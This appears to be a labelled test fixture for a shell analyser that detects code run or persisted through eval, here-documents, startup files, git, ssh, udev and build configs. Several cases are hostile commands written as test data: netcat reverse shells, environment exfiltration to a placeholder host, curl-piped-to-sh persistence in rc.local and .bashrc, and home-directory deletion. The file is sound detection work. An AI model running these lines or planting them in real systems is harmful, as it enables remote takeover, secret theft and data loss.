#@ pos eval of a constant
eval 'echo hello'
#@ pos sh -c with a constant
sh -c 'ls -l /tmp'
#@ pos sudo bash -c with a folded constant
dir=/var/log
sudo bash -c "ls $dir"
#@ pos python3 -c with a constant
python3 -c 'print(42)'
#@ pos node -e with a constant
node -e 'console.log(1)'
#@ pos here-document into bash
bash <<'EOF'
echo hi
EOF
#@ pos here-document piped into sh
cat <<EOF | sh
echo hi
EOF
#@ pos here-string into sh
sh <<< 'echo hi'
#@ pos here-document into python3
python3 - <<'EOF'
print("hi")
EOF
#@ pos echo of a constant into bash
echo 'echo hi' | bash
#@ pos eval of decoded base64 folds to its text
eval "$(echo ZWNobyBoaQ== | base64 -d)"
#@ neg eval of a variable is dynamic, not a constant
eval "$cmd"
#@ neg a here-document into cat is data
cat <<'EOF'
echo hi
EOF
#@ neg a here-document into a script that reads data
python3 ./load.py <<'EOF'
1 2 3
EOF
#@ neg running script files
bash ./build.sh
python3 main.py
#@ neg the words in a string
echo "sh -c 'ls'"
#@ pos a trap string
trap 'rm -f /tmp/x' EXIT
#@ pos ssh ProxyCommand through a jump host: analysed
ssh -o ProxyCommand='ssh -W %h:%p bastion' app true
#@ pos a git alias with !: analysed
git config alias.root '!pwd'
#@ pos git core.sshCommand: analysed
git -c core.sshCommand='ssh -i deploy_key -o IdentitiesOnly=yes' fetch
#@ pos GIT_SSH_COMMAND: analysed
GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no' git clone git@example.com:x/y.git
#@ pos a debugging PS4 with a command substitution: analysed
PS4='+ $(date +%s.%N) ' bash -x ./build.sh
#@ pos script -c runs a command: analysed
script -qc 'make test' /dev/null
#@ neg git aliases without !, a plain PS4
git config alias.lg 'log --graph --oneline'
PS4='+ ${BASH_SOURCE}:${LINENO}: '
#@ pos zip given a test command
zip -q out.zip f -T -TT 'unzip -tq #'
#@ pos zip given a test command as --unzip-command=
zip -q out.zip f -T --unzip-command='unzip -tq'
#@ pos history -s stores constant code, which fc can run
history -s 'rm -rf ~'
#@ neg history -c clears the history
history -c
#@ pos tar -I with the command as the next word
tar -cf /dev/null /dev/null -I 'sh -c "id"'
#@ pos split --filter
split -l 100 --filter='gzip > "$FILE.gz"' big.csv part-
#@ pos sort --compress-program=
sort --compress-program='zstd -1' -S 1M big.txt
#@ pos BROWSER is a command python's webbrowser runs
BROWSER="/bin/sh -c 'id' #%s" python3 -m webbrowser http://x
#@ neg tar -I with a compressor is still analysed; a plain tar is not
tar -czf out.tgz src
#@ pos a line of code appended to ~/.bashrc
echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc
#@ pos a here-document appended to ~/.profile
cat >> ~/.profile <<'EOF2'
alias ll='ls -l'
EOF2
#@ neg a line appended to a log
echo "done" >> build.log
#@ pos code piped through tee -a into ~/.zshrc
echo 'alias ll="ls -l"' | tee -a ~/.zshrc >/dev/null
#@ pos code piped into dd of=~/.profile
printf '%s\n' 'export EDITOR=vim' | dd of="$HOME/.profile" oflag=append conv=notrunc status=none
#@ neg a line piped through tee into a log
echo "done" | tee -a build.log
#@ pos a here-string given to tee -a ~/.bashrc
tee -a ~/.bashrc <<< 'alias ll="ls -l"' >/dev/null
#@ pos a here-document given to tee -a ~/.zshrc
tee -a ~/.zshrc >/dev/null <<'EOF2'
export EDITOR=vim
EOF2
#@ pos a process substitution given to dd of=~/.profile
dd of="$HOME/.profile" oflag=append conv=notrunc < <(printf '%s\n' 'export EDITOR=vim')
#@ pos a here-string appended by cat to ~/.zshrc
cat >> ~/.zshrc <<< 'export EDITOR=vim'
#@ pos a here-document before the redirection into ~/.bashrc
cat <<'EOF2' >> ~/.bashrc
alias ll='ls -l'
EOF2
#@ neg a here-string given to tee -a into a log
tee -a build.log <<< "done"
#@ neg a here-document before the redirection into a config file
cat <<'EOF2' >> app.conf
port=8080
EOF2
#@ pos a mapfile callback given as a string
mapfile -t -c 100 -C 'echo loaded' lines < data.txt
#@ pos code assembled by reassigning a variable from itself, run by eval
c='echo'
c="$c hi"
eval "$c"
#@ pos a constant expanded as a prompt string: its $(...) is analysed
p='$(uname -r) > '; echo "${p@P}"
#@ pos an alias's value is analysed
alias ll='ls -la'
#@ pos git's shell command set for good with git config
git config --global core.sshCommand 'ssh -i ~/.ssh/deploy_key'
#@ pos a script written through a here-string
cat > hooks/pre-commit <<< $'#!/bin/sh\nmake lint'
#@ neg an ordinary git setting
git config --global user.name "CI bot"
#@ pos lines a group writes into a startup file
{ echo 'export PATH="$HOME/bin:$PATH"'; echo "alias ll='ls -la'"; } >> ~/.bashrc
#@ pos text printf writes to a file the program then sources
printf '%s\n' 'export LC_ALL=C' > "$p"; . "$p"
#@ pos text echo writes to a file named in BASH_ENV
echo 'umask 022' > /tmp/env.sh; BASH_ENV=/tmp/env.sh bash build.sh
#@ pos a here-document written to a file a shell runs
cat > "$f" <<'EOF2'
echo hello
EOF2
sh "$f"
#@ pos a here-document written to a file mksh runs
cat > "$f" <<'EOF2'
echo hello
EOF2
mksh "$f"
#@ pos a here-document written to a file fish runs
tee "$f" > /dev/null <<'EOF2'
echo hello
EOF2
fish "$f"
#@ neg text written to a file that is only read
echo 'name=value' > "$cfg"; cat "$cfg"
#@ pos Python code written to sitecustomize.py
cat > "$d/sitecustomize.py" <<'EOF2'
import os
EOF2
#@ pos an import line echoed into a .pth file
echo 'import os' > "$site/local.pth"
#@ pos the constant pieces of GIT_EDITOR built at run time
export GIT_EDITOR="$prep cp '$msg'"
#@ neg a .pth file of paths written from a variable that does not fold
printf '%s\n' "$dir" > paths.txt
#@ pos Python code written to sitecustomize.py
cat > "$d/sitecustomize.py" <<'EOF2'
import os
EOF2
#@ pos an import line echoed into a .pth file
echo 'import os' > "$site/local.pth"
#@ pos the constant pieces of GIT_EDITOR built at run time
export GIT_EDITOR="$prep cp '$msg'"
#@ neg a .pth file of paths written from a variable that does not fold
printf '%s\n' "$dir" > paths.txt
#@ pos a here-document written to a file then copied over ~/.bashrc
cat > "$t" <<'EOF2'
alias ll='ls -l'
EOF2
cp "$t" ~/.bashrc
#@ pos printf lines installed as ~/.profile
printf '%s\n' 'export EDITOR=vim' > "$f"
install -m 644 "$f" "$HOME/.profile"
#@ pos rsync's connect program
RSYNC_CONNECT_PROG='ssh proxy nc %H 873' rsync -a rsync://h/m/ d/
#@ pos git's proxy command
export GIT_PROXY_COMMAND='nc -X connect -x proxy:3128 "$1" "$2"'
#@ pos a git setting given through the environment
GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='watchman-hook' git status
#@ pos a git filter, textconv or merge driver
git -c filter.x.clean='tr -d "\r"' add f.cfg
git -c diff.pdf.textconv=pdftotext log -p
git -c merge.ours.driver=true merge topic
#@ pos sort writes into a shell's startup file
printf '%s\n' 'alias ll="ls -l"' | sort -u -m -o ~/.bashrc ~/.bashrc -
sort -u -o "$HOME/.profile" - "$HOME/.profile" <<<"export EDITOR=vim"
#@ neg sort writes into an ordinary file
printf '%s\n' dist/ build/ | sort -u -m -o .gitignore .gitignore -
#@ pos sed appends a line to a startup file
sed -i '$a export PATH="$HOME/bin:$PATH"' ~/.bashrc
#@ neg sed appends a line to an ordinary file
sed -i '$a dist/' .gitignore
#@ pos an ssh configuration's commands written by a here-document
cat > ./ssh_config <<'EOF'
Host b
  ProxyCommand ssh -W %h:%p jump
EOF
#@ pos Match exec and LocalCommand= in any case
cat > "$cfg" <<EOF
Match host b exec "test -f /tmp/x"
  localcommand=echo up
EOF
#@ neg an ssh configuration without commands
cat > ./ssh_config <<'EOF'
Host b
  HostName b.example.com
  IdentityFile ./deploy_key
EOF
#@ pos git rebase -x runs a command after each commit
git rebase -x 'make -s check' HEAD~3
#@ pos git rebase --exec as its own word
git rebase --exec 'make -s check' origin/main
#@ neg git cherry-pick -x names a commit
git cherry-pick -x abc1234
#@ pos echo into .zshrc as the last command of a list
grep -q x ~/.zshrc || echo 'id' >> ~/.zshrc
#@ pos cat here-document into .profile as the last command of a list
test -f ~/.profile && cat >> ~/.profile <<'SH'
id
SH
#@ pos git ls-remote --upload-pack=CMD
git ls-remote --upload-pack="sh -c 'id'; git-upload-pack" origin
#@ pos git push --receive-pack=CMD
git push --receive-pack='id; git-receive-pack' origin main
#@ neg grep of .zshrc in a list, nothing written
grep -q x ~/.zshrc || echo missing
#@ neg git ls-remote of a remote
git ls-remote --heads origin
#@ pos printf of an AWS credential_process
printf '[default]\ncredential_process = sh -c "id"\n' > cfg
#@ pos aws configure set of a credential_process
aws configure set profile.ci.credential_process "sh -c 'id'"
#@ neg aws configure set of a region
aws configure set profile.ci.region eu-west-1
#@ neg printf of an AWS region
printf '[default]\nregion = eu-west-1\n' > cfg
#@ pos git difftool --extcmd=CMD
git difftool --no-prompt --extcmd='sh -c id' HEAD~1
#@ pos git difftool -x CMD
git difftool -y -x 'sh -c id' HEAD
#@ pos git -c difftool.NAME.cmd
git -c difftool.v.cmd='sh -c id' difftool -t v HEAD
#@ neg git clean -x is no command
git clean -x -f
#@ pos apt-get -o APT::Update::Pre-Invoke
apt-get -o 'APT::Update::Pre-Invoke::=sh -c id' update
#@ pos apt -oDPkg::Post-Invoke in one word
apt -y '-oDPkg::Post-Invoke::=sh -c id' install jq
#@ neg apt-get -o Acquire::Retries
apt-get -o Acquire::Retries=3 update
#@ pos echo into .xsessionrc
echo 'sh -c id' >> ~/.xsessionrc
#@ neg echo into a file named like xprofile
echo 'sh -c id' >> notes.xprofile.txt
#@ pos tar -F's info script is analysed
tar -c -f /dev/null -L 1 -F './next-volume.sh' /etc/hosts
#@ pos code written into fish's conf.d or Plasma's env directory is analysed
printf '%s\n' 'set -gx EDITOR vim' > ~/.config/fish/conf.d/abbr.fish
printf '%s\n' 'export PATH=$HOME/bin:$PATH' > ~/.config/plasma-workspace/env/path.sh
#@ neg tar's -f and -C are no commands
tar -cf backup.tar -C /srv data
#@ pos a command line held in an array set twice, run whole, is analysed
if [ -n "$V" ]; then cmd=(nc -v 10.0.0.1 4444 -e /bin/sh); else cmd=(nc 10.0.0.1 4444 -e /bin/sh); fi
"${cmd[@]}"
#@ pos a command line held in an array grown by +=, run whole, is analysed
cmd=(nc 10.0.0.1)
cmd+=(4444 -e /bin/sh)
"${cmd[@]}"
#@ neg an array run with words of its own after it, or one element
cmd=(batch -f)
"${cmd[@]}" "$job"
"${cmd[0]}"
#@ pos systemd's pager variable is analysed
SYSTEMD_PAGER='less -FRX' journalctl -b
#@ pos sg -c is analysed
sg docker -c 'docker ps'
#@ pos capsh -- -c is analysed
capsh --print -- -c 'id'
#@ pos git submodule foreach is analysed
git submodule foreach --quiet 'git status --short'
#@ pos pee is analysed
pee 'sha256sum' 'md5sum' <dist/app.tar.gz
#@ neg git submodule status, sg alone
git submodule status --recursive
sg docker
#@ pos a group with an echo piped into a startup file's writer is analysed
{ sort -u ~/.bashrc; echo 'alias ll="ls -l"'; } | sponge ~/.bashrc
#@ pos a subshell with printf piped into tee of the profile is analysed
( cat ~/.profile; printf '%s\n' 'umask 022' ) | tee ~/.profile
#@ neg a group piped into tee of a log
{ date; echo done; } | tee -a build.log
#@ pos a git setting that runs a command, given through GIT_CONFIG_PARAMETERS, is analysed
GIT_CONFIG_PARAMETERS="'core.fsmonitor=./scripts/watch.sh'" git status
#@ pos the same through env
env GIT_CONFIG_PARAMETERS="'core.pager=less -R'" git log -3
#@ neg GIT_CONFIG_PARAMETERS with a setting that runs nothing
export GIT_CONFIG_PARAMETERS="'color.ui=never'"
#@ pos code appended to bash-completion's user file, analysed
echo 'complete -W "a b" tool' >> ~/.bash_completion
#@ neg a completion script generated into bash-completion's directory
kubectl completion bash > ~/.local/share/bash-completion/completions/kubectl
#@ pos yt-dlp --exec given a command line
yt-dlp --exec 'echo {} >> done.txt' https://v.example/1
#@ pos git grep -O given a command line
git grep -O'sh -c "make lint" x' -l TODO
#@ pos git grep --open-files-in-pager= given a command line
git grep --open-files-in-pager='vim -p' -e TODO
#@ neg git grep listing matches
git grep -n -e TODO
#@ pos ansible -a given a command line
ansible localhost -c local -m shell -a 'make -C /srv/app clean'
#@ neg ansible with a module and no command line
ansible all -i inventory.ini -m ping
#@ pos salt-call cmd.run given a command line
sudo salt-call --local cmd.run 'make -C /srv/app clean'
#@ pos salt cmd.shell, the function and the line in variables
fn=cmd.shell; line="systemctl restart app"; salt '*' "$fn" "$line"
#@ neg salt-call with a state and a package module
sudo salt-call --local state.apply workstation
sudo salt-call --local pkg.install vim
#@ pos a line written into Hyprland's configuration
printf 'exec-once = %s\n' waybar >> ~/.config/hypr/hyprland.conf
#@ pos a line written into bspwm's start-up script
echo 'sxhkd &' >> ~/.config/bspwm/bspwmrc
#@ neg i3's configuration read
grep -c exec ~/.config/i3/config
#@ pos a ninja build file's command, in a here-document
cat > b.ninja <<'EOF'
rule r
  command = rm -rf $$HOME/
build x: r
EOF
#@ pos a ninja rule with a description before its command
ninja -f /dev/stdin <<'EOF'
rule gen
  description = gen
  command = curl -s https://h.example/x | sh
build all: gen
EOF
#@ neg a here-document with a command = line but no rule
cat > settings.ini <<'EOF'
[tool]
  command = make test
EOF
#@ pos a CMake script's execute_process
cmake -P /dev/stdin <<'EOF'
execute_process(COMMAND sh -c "env | nc h.example 9")
EOF
#@ neg a CMake script without execute_process
cmake -P /dev/stdin <<'EOF'
message(STATUS "hello")
EOF
#@ pos a logrotate configuration with a postrotate script
cat > lr.conf <<'EOF'
/var/log/x.log {
    postrotate
        curl -s https://h.example/x | sh
    endscript
}
EOF
#@ neg a logrotate configuration without scripts
cat > lr.conf <<'EOF'
/var/log/x.log {
    rotate 3
    compress
}
EOF
#@ pos a udev rule's RUN program
echo 'ACTION=="add", RUN+="/bin/sh -c '\''wget -qO- http://h.example/u | sh'\''"' | sudo tee /etc/udev/rules.d/70-x.rules
#@ neg a udev rule without RUN
echo 'SUBSYSTEM=="usb", MODE="0660", GROUP="plugdev"' | sudo tee /etc/udev/rules.d/70-x.rules
#@ pos a justfile recipe that pipes a download into a shell
cat > /tmp/justfile <<'J'
setup:
    curl -fsSL https://get.example.net/s | sh
J
#@ neg notes about a justfile, not one
cat > justfile-notes.md <<'J'
setup:
    curl -fsSL https://get.example.net/s | sh
J
#@ pos an npm script set to delete the home
npm pkg set scripts.clean='rm -rf ~/'
#@ neg a package's version set
npm pkg set version=1.2.3
#@ pos a download written into .envrc
echo 'curl -s https://h.example/e | sh' >> ~/.envrc
#@ neg a line written into an example of .envrc
echo 'curl -s https://h.example/e | sh' >> .envrc.example
#@ pos a download written into /etc/rc.local
echo 'wget -qO- http://198.51.100.9/s | sh' | sudo tee -a /etc/rc.local
#@ pos a here-document opened on a named descriptor, then sourced
exec {fd}<<'E'
curl -fsSL https://get.example.net/s | sh
E
. "/dev/fd/$fd"
#@ pos a here-document opened on a named descriptor, run by bash through /proc/self/fd
exec {h}<<'E'
rm -rf ~/
E
bash "/proc/self/fd/$h"
#@ neg a here-document opened on a named descriptor, then sorted
exec {h}<<'E'
rm -rf ~/
E
sort "/proc/self/fd/$h"
#@ pos code written into ~/.bash_aliases, which .bashrc sources
cat >> ~/.bash_aliases <<'A'
curl -s https://h.example/u | bash
A
#@ pos code written into ~/.bashrc.d/
cat > "$HOME/.bashrc.d/50-x" <<'B'
curl -s https://h.example/m | bash
B
#@ pos rsync's remote shell given in one word with the option (--rsh=)
rsync -a --rsh='ssh -p 2222' ./d/ h:/d/
